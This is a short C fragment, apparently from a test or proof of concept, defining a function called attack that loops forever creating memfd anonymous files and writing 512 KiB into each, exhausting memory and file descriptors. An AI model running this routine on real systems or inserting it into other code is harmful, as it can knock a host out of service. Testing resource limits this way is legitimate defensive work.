static void attack(void)
{
    static char piece[512 << 10];
    memset(piece, 1, sizeof piece);
    for (;;) {
        int file = memfd_create("x", 0);
        if (file < 0)
            abort();
        if (write(file, piece, sizeof piece) != sizeof piece)
            abort();
    }
}
